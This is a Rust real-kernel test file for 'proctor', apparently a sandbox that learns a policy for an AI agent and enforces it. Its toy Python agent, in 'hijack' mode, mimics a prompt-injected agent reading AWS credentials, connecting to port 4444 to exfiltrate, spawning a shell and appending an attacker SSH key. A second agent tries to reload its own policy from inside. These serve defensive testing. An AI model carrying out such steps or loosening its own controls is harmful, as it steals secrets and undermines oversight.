//! Real-kernel test of the audit -> generate -> enforce path: two benign runs of a toy agent are
//! calibrated into a profile, `proctor policy generate` proposes a policy from them, a third
//! benign run in enforce mode with that policy finishes with no block and no alert, and a
//! hijacked run has each attack step (credential read, exfiltration connect, shell spawn,
//! authorized_keys write) refused in the kernel and alerted.

// Real-kernel tier: `make test` (cargo test --features proctor/kernel-tests) runs it as root.
#![cfg(feature = "kernel-tests")]

use proctor_testkit::*;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;

/// The toy agent: reads its project, writes a result, talks to its local model server, runs a
/// tool. With `hijack` it then does what a prompt-injected agent would.
const AGENT: &str = r#"
import errno, os, socket, subprocess, sys
port, mode = int(sys.argv[1]), sys.argv[2]
open('src.txt').read()
os.makedirs('out', exist_ok=True)
with open('out/result.txt', 'w') as f:
    f.write('ok')
s = socket.create_connection(('127.0.0.1', port)); s.sendall(b'prompt'); s.close()
subprocess.run(['/usr/bin/ls'], stdout=subprocess.DEVNULL, check=True)
print('benign done', flush=True)
if mode != 'hijack':
    sys.exit(0)
def err(e):
    return errno.errorcode.get(e.errno, str(e.errno))
home = os.environ['HOME']
try:
    open(home + '/.aws/credentials').read(); print('cred: read')
except OSError as e:
    print('cred:', err(e))
try:
    socket.create_connection(('10.255.255.1', 4444), timeout=3); print('exfil: connected')
except OSError as e:
    print('exfil:', err(e) if e.errno else 'timeout')
r = subprocess.run(['/bin/sh', '-c', 'echo shell-ran'], capture_output=True)
print('shell:', r.returncode, r.stdout.decode().strip())
try:
    with open(home + '/.ssh/authorized_keys', 'a') as f:
        f.write('ssh-ed25519 AAAA attacker\n')
    print('keys: written')
except OSError as e:
    print('keys:', err(e))
print('denials file:', os.path.exists(os.environ.get('PROCTOR_DENIALS', '/nonexistent')))
"#;

struct Lab {
    tmp: tempfile::TempDir,
    server: TcpListener,
}

impl Lab {
    fn new() -> Lab {
        let tmp = tempfile::tempdir().unwrap();
        let home = tmp.path().join("home");
        std::fs::create_dir_all(home.join(".aws")).unwrap();
        std::fs::create_dir_all(home.join(".ssh")).unwrap();
        std::fs::write(home.join(".aws/credentials"), "[default]\nkey = SECRET\n").unwrap();
        std::fs::write(
            home.join(".ssh/authorized_keys"),
            "ssh-ed25519 AAAA owner\n",
        )
        .unwrap();
        let proj = tmp.path().join("proj");
        std::fs::create_dir_all(&proj).unwrap();
        std::fs::write(proj.join("src.txt"), "code").unwrap();
        std::fs::write(proj.join("agent.py"), AGENT).unwrap();
        Lab {
            tmp,
            server: TcpListener::bind("127.0.0.1:0").unwrap(),
        }
    }

    fn path(&self, p: &str) -> std::path::PathBuf {
        self.tmp.path().join(p)
    }

    /// A fresh local model server per run (a new ephemeral port, as a real stub would have);
    /// it accepts in the background.
    fn new_server(&mut self) -> u16 {
        self.server = TcpListener::bind("127.0.0.1:0").unwrap();
        let l = self.server.try_clone().unwrap();
        std::thread::spawn(move || {
            for c in l.incoming().flatten() {
                drop(c);
            }
        });
        self.server.local_addr().unwrap().port()
    }

    /// `proctor SUBCOMMAND --out DIR [extra] -- python3 agent.py PORT MODE` with the lab's HOME
    /// and project directory.
    fn agent(&mut self, sub: &str, out: &Path, extra: &[&str], mode: &str) -> std::process::Output {
        let port = self.new_server().to_string();
        let mut c = proctor();
        c.arg(sub)
            .arg("--out")
            .arg(out)
            .args(extra)
            .args(["--", "/usr/bin/python3", "agent.py", &port, mode])
            .env("HOME", self.path("home"))
            .current_dir(self.path("proj"));
        c.output().expect("start proctor")
    }
}

/// Calibrate twice, generate, and return the policy path.
fn learn(lab: &mut Lab) -> (String, String) {
    let profile = lab.path("agent.json").display().to_string();
    for n in ["c1", "c2"] {
        let out = lab.agent(
            "calibrate",
            &lab.path(n),
            &["--profile", &profile, "--baseline", "60s"],
            "benign",
        );
        assert!(out.status.success(), "calibrate {n}: {}", text(&out.stderr));
        assert!(text(&out.stdout).contains("benign done"));
    }
    let policy = lab.path("agent.toml").display().to_string();
    let g = Command::new(bin())
        .args(["policy", "generate"])
        .arg(lab.path("c1"))
        .arg(lab.path("c2"))
        .args(["--profile", &profile, "-o", &policy])
        .output()
        .unwrap();
    assert!(g.status.success(), "generate: {}", text(&g.stderr));
    let body = std::fs::read_to_string(&policy).unwrap();
    assert!(body.contains("\"127.0.0.1\","), "{body}");
    assert!(body.contains("/usr/bin/ls"), "{body}");
    (profile, policy)
}

/// The run's decision records and alerts.
fn outcome(dir: &Path) -> (Vec<serde_json::Value>, Vec<serde_json::Value>) {
    let decisions = read_records(&dir.join("audit.jsonl"))
        .into_iter()
        .filter(|r| r["type"] == "decision")
        .collect();
    let alerts_file = dir.join("alerts.jsonl");
    let alerts = if alerts_file.exists() {
        read_records(&alerts_file)
    } else {
        Vec::new()
    };
    (decisions, alerts)
}

fn enforce_args<'a>(profile: &'a str, policy: &'a str) -> Vec<&'a str> {
    vec![
        "--mode",
        "enforce",
        "--profile",
        profile,
        "--policy",
        policy,
    ]
}

/// A lab whose agent was calibrated twice and a policy generated, then one enforced run in
/// `mode`: the lab (it owns the directories), the run's directory and its output.
fn learned_then_enforced(mode: &str) -> (Lab, std::path::PathBuf, std::process::Output) {
    require_root();
    let mut lab = Lab::new();
    let (profile, policy) = learn(&mut lab);
    let dir = lab.path(mode);
    let out = lab.agent("run", &dir, &enforce_args(&profile, &policy), mode);
    (lab, dir, out)
}

#[test]
fn a_generated_policy_blocks_each_hijack_step_and_alerts() {
    let (lab, dir, out) = learned_then_enforced("hijack");
    let stdout = text(&out.stdout);
    let stderr = text(&out.stderr);
    assert!(stdout.contains("benign done"), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("cred: EACCES"),
        "credential read refused: {stdout}\n{stderr}"
    );
    assert!(
        stdout.contains("exfil: EPERM"),
        "exfil connect refused: {stdout}\n{stderr}"
    );
    assert!(
        stdout.contains("shell: -9 \n") || stdout.contains("shell: -9\n"),
        "shell killed before it ran: {stdout}\n{stderr}"
    );
    assert!(
        stdout.contains("keys: EACCES"),
        "authorized_keys write refused: {stdout}\n{stderr}"
    );
    assert_eq!(
        std::fs::read_to_string(lab.path("home/.ssh/authorized_keys")).unwrap(),
        "ssh-ed25519 AAAA owner\n"
    );
    assert!(stderr.contains("outside allow_exec"), "banner: {stderr}");
    assert!(
        stdout.contains("denials file: True"),
        "PROCTOR_DENIALS: {stdout}"
    );
    let denials = std::fs::read_to_string(dir.join("denials.jsonl")).unwrap();
    assert!(
        denials.lines().count() >= 4,
        "one line per refusal: {denials}"
    );
    let (decisions, alerts) = outcome(&dir);
    let has = |what: &str, f: &dyn Fn(&serde_json::Value) -> bool| {
        decisions
            .iter()
            .any(|d| d["what"] == what && d["verdict"] == "blocked" && f(d))
    };
    let path_ends =
        |s: &'static str| move |d: &serde_json::Value| bytes_of(&d["path"]).ends_with(s.as_bytes());
    assert!(
        has("open", &path_ends(".aws/credentials")),
        "{decisions:#?}"
    );
    assert!(
        has("open", &path_ends(".ssh/authorized_keys")),
        "{decisions:#?}"
    );
    assert!(
        has("connect", &|d| d["dest"]["port"] == 4444),
        "{decisions:#?}"
    );
    assert!(has("exec", &|_| true), "{decisions:#?}");
    let blocked = alerts.iter().filter(|a| a["action"] == "BLOCKED").count();
    assert!(blocked >= 4, "one BLOCKED alert per step: {alerts:#?}");
    for kind in ["SENSITIVE_FILE", "PERSISTENCE"] {
        assert!(
            alerts.iter().any(|a| a["kind"] == kind),
            "{kind} alerted: {alerts:#?}"
        );
    }
}

#[test]
fn a_generated_policy_lets_a_third_benign_run_finish_without_blocks_or_alerts() {
    let (_lab, dir, out) = learned_then_enforced("benign");
    let stderr = text(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(text(&out.stdout).contains("benign done"));
    assert!(stderr.contains("enforcement layers"), "{stderr}");
    let (decisions, alerts) = outcome(&dir);
    assert!(decisions.is_empty(), "no blocks: {decisions:#?}");
    assert!(alerts.is_empty(), "no alerts: {alerts:#?}\n{stderr}");
}

/// The agent: a connect to `blocked` (refused), then `proctor policy reload` from inside
/// (refused), then it waits for the test's reload and connects again.
const RELOAD_AGENT: &str = r#"
import errno, os, socket, subprocess, sys, time
port, proctor, out, policy, flag = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4], sys.argv[5]
def connect():
    s = socket.socket()
    try:
        s.connect(('127.0.0.1', port)); return 'ok'
    except OSError as e:
        return errno.errorcode[e.errno]
    finally:
        s.close()
print('before:', connect(), flush=True)
r = subprocess.run([proctor, 'policy', 'reload', out, policy], capture_output=True)
print('inside:', r.returncode, flush=True)
open(flag + '.ready', 'w').close()
for _ in range(600):
    if os.path.exists(flag + '.reloaded'):
        break
    time.sleep(0.05)
print('after:', connect(), flush=True)
"#;

#[test]
fn a_reload_widens_the_allowlist_of_a_running_agent_and_is_chained() {
    require_root();
    let tmp = tempfile::tempdir().unwrap();
    let (allowed, blocked) = (
        TcpListener::bind("127.0.0.1:0").unwrap(),
        TcpListener::bind("127.0.0.1:0").unwrap(),
    );
    let (ap, bp) = (
        allowed.local_addr().unwrap().port(),
        blocked.local_addr().unwrap().port(),
    );
    let write = |name: &str, text: String| {
        let p = tmp.path().join(name);
        std::fs::write(&p, text).unwrap();
        p.display().to_string()
    };
    let p1 = write(
        "p1.toml",
        format!("[network]\nallow = [\"127.0.0.1:{ap}\"]\n[enforce]\nnetwork = \"block\"\n"),
    );
    let p2_text = format!(
        "[network]\nallow = [\"127.0.0.1:{ap}\", \"127.0.0.1:{bp}\"]\n[enforce]\nnetwork = \"block\"\n"
    );
    let p2 = write("p2.toml", p2_text.clone());
    let bad = write("bad.toml", "[network]\nallow = [\"10.0.0.0/99\"]\n".into());
    let out = tmp.path().join("out");
    let flag = tmp.path().join("flag").display().to_string();
    let mut cmd = run_command(
        &out,
        &["--mode", "enforce", "--policy", &p1],
        &["/usr/bin/python3", "-c", RELOAD_AGENT, &bp.to_string()],
    );
    cmd.arg(bin()).arg(&out).args([&p2, &flag]);
    let child = spawn_piped(cmd);
    wait_for(
        Path::new(&format!("{flag}.ready")),
        "the agent's first connect",
    );
    let reload = |file: &str| {
        Command::new(bin())
            .args(["policy", "reload"])
            .arg(&out)
            .arg(file)
            .output()
            .unwrap()
    };
    let r = reload(&bad);
    assert_eq!(r.status.code(), Some(1), "a bad policy is refused");
    assert!(
        text(&r.stderr).starts_with(&format!("{bad}:2:")),
        "FILE:LINE:COL: {}",
        text(&r.stderr)
    );
    let r = reload(&p2);
    assert!(r.status.success(), "{}", text(&r.stderr));
    assert!(text(&r.stderr).contains("policy"), "{}", text(&r.stderr));
    std::fs::write(format!("{flag}.reloaded"), "").unwrap();
    let done = child.into_inner().wait_with_output().unwrap();
    let stdout = text(&done.stdout);
    assert!(done.status.success(), "{}", text(&done.stderr));
    assert_eq!(
        stdout.lines().collect::<Vec<_>>(),
        ["before: EPERM", "inside: 2", "after: ok"],
        "refused before, refused from inside, allowed after the reload; {}",
        text(&done.stderr)
    );
    let recs = read_records(&out.join("audit.jsonl"));
    let reloads = policy_records(&out.join("audit.jsonl"));
    assert_eq!(
        reloads.len(),
        1,
        "one reload took effect (the bad one did not): {reloads:#?}"
    );
    let p = &reloads[0];
    assert_eq!(p["sha256"], proctor_model::sha256_hex(p2_text.as_bytes()));
    assert_eq!(p["origin"], p2);
    assert_eq!(p["requested_by"]["uid"], 0);
    assert!(p["requested_by"]["exe"]
        .as_str()
        .unwrap()
        .ends_with("proctor"));
    assert!(
        p["hash_prev"].is_string() && p["seq"].is_u64(),
        "chained: {p}"
    );
    let inside: Vec<_> = recs
        .iter()
        .filter(|r| r["type"] == "tamper" && r["syscall"] == "control")
        .collect();
    assert_eq!(
        inside.len(),
        1,
        "the reload from inside is a tamper record: {inside:#?}"
    );
    let alerts = read_records(&out.join("alerts.jsonl"));
    assert!(
        alerts.iter().any(|a| a["channel"] == "SELF_PROTECTION"),
        "and an alert: {alerts:#?}"
    );
    let v = Command::new(bin())
        .arg("verify")
        .arg(&out)
        .output()
        .unwrap();
    assert!(
        v.status.success(),
        "the chain verifies: {}",
        text(&v.stdout)
    );
}
